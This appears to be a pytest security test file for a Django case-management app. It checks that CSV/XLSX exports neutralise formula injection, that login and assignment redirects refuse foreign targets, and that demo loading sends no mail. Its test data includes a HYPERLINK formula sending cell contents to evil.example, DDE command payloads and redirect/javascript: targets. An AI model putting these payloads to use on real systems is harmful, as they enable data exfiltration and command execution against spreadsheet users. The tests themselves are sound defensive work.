"""Issue 11 items 14, 15 and 18: spreadsheet formula injection, open redirect, demo mail."""

from __future__ import annotations

import csv
import io

import pytest
from django.core import mail
from django.core.management import call_command
from django.urls import reverse

from cases.spreadsheet import safe_cell, spreadsheet_safe

EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"klik")'


def _csv_rows(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.mark.parametrize(
    "value",
    [
        EVIL,
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3+cmd",
        "- 1+1",
        "- cmd|' /C calc'!A0",
        "-A1",
        "\t=1",
        "\r=1",
        "\uff1d1+1",
    ],
)
def test_spreadsheet_safe_neutralises_formula_starts(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["gewone tekst", "-12", "-3,5", "- concept", "2026-03-06", "e-mail", ""]
)
def test_spreadsheet_safe_keeps_plain_text(value):
    assert spreadsheet_safe(value) == value
    assert safe_cell(12) == 12 and safe_cell(None) is None


def test_inventory_files_use_the_shared_helper():
    from cases.letters import inventory_files

    assert inventory_files._spreadsheet_safe is spreadsheet_safe


@pytest.mark.django_db
def test_overview_csv_export_neutralises_a_requester_formula(client, coordinator, make_case):
    make_case(subject=EVIL)
    client.force_login(coordinator)
    response = client.get(reverse("cases:overview") + "?export=csv")
    assert response.status_code == 200
    rows = _csv_rows(response.content)
    subjects = [r[1] for r in rows[1:]]
    assert subjects == ["'" + EVIL]


@pytest.mark.django_db
def test_report_csv_and_xlsx_cells_are_safe(client, coordinator, make_case, monkeypatch):
    from openpyxl import load_workbook

    from cases import reporting

    real = reporting.figures_as_rows

    def with_formula(figures):
        header, rows = real(figures)
        return [EVIL, *header[1:]], [[EVIL, *row[1:]] for row in rows] or [[EVIL]]

    monkeypatch.setattr(reporting, "figures_as_rows", with_formula)
    make_case()
    client.force_login(coordinator)
    response = client.get(reverse("cases:report") + "?export=csv")
    rows = _csv_rows(response.content)
    assert rows[0][0] == "'" + EVIL and rows[1][0] == "'" + EVIL
    response = client.get(reverse("cases:report") + "?export=xlsx")
    ws = load_workbook(io.BytesIO(response.content)).active
    for cell in (ws["A1"], ws["A2"]):
        assert cell.data_type == "s" and cell.value == EVIL  # text, never a formula


@pytest.mark.django_db
@pytest.mark.parametrize(
    "target",
    [
        "//evil.example/overzicht/",
        "https://evil.example/",
        "/\\evil.example/",
        "\\\\evil.example",
        "javascript:alert(1)",
        "///evil.example",
    ],
)
def test_assign_next_refuses_foreign_targets(client, coordinator, adviser, make_case, target):
    case = make_case()
    client.force_login(coordinator)
    response = client.post(
        reverse("cases:request_assign", args=[case.pk]), {"adviser": adviser.pk, "next": target}
    )
    assert response.status_code == 302
    assert response["Location"] == reverse("cases:request_detail", args=[case.pk])


@pytest.mark.django_db
def test_assign_next_keeps_a_local_path(client, coordinator, adviser, make_case):
    case = make_case()
    client.force_login(coordinator)
    response = client.post(
        reverse("cases:request_assign", args=[case.pk]),
        {"adviser": adviser.pk, "next": "/overzicht/?actie=1"},
    )
    assert response["Location"] == "/overzicht/?actie=1"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url,username,password",
    [
        ("/inloggen/?next=//evil.example/", "adviseur1", "test-pass-123"),
        ("/beheer/login/?next=//evil.example/", "admin", "password"),
        ("/inloggen/?next=https://evil.example/", "adviseur1", "test-pass-123"),
    ],
)
def test_login_next_refuses_foreign_targets(client, adviser, admin_user, url, username, password):
    """Django's login views already check `next`; this keeps it so (both login screens)."""
    from tests.security_helpers import login_password

    response = login_password(client, username, password, url=url)
    assert response.status_code == 302
    assert "evil.example" not in response["Location"]


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("eager", [True, False])
def test_load_demo_never_sends_mail(settings, monkeypatch, eager):
    """locmem backend, tasks eager or queued: load_demo mails nobody and queues no mail task."""
    from wobdesk.celery import app

    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    was_eager = app.conf.task_always_eager
    app.conf.task_always_eager = eager
    queued = []
    from cases import tasks

    monkeypatch.setattr(
        tasks.notify_requester_task, "apply_async", lambda *a, **k: queued.append((a, k))
    )
    mail.outbox = []
    try:
        call_command("load_demo", stdout=io.StringIO())
    finally:
        app.conf.task_always_eager = was_eager
    assert mail.outbox == []
    assert queued == []
    from cases.models import Request

    # The demo still shows the requesters' addresses.
    assert Request.objects.exclude(requester_email="").count() >= 3
